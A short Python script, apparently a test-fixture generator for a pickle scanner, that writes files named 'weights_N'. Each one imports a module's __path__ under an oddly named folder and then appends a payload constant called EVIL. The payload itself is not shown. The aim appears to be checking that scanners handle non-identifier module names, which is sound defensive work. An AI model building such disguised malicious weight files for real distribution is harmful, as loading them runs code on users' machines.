# Any file or folder on the way of modules can be imported, whatever it is called: CPython has a
# folder lib-dynload, a repository may have one with a blank in its name. No identifier, and no fault.
from pickle_asm import *

for number, module in enumerate(["lib-dynload", "site-packages", "a folder", "1st", "a+b", "config-3.11-x86_64-linux-gnu"]):
    start = b"c" + module.encode() + b"\n__path__\n"
    save(f"weights_{number}", start + POP + EVIL + STOP)
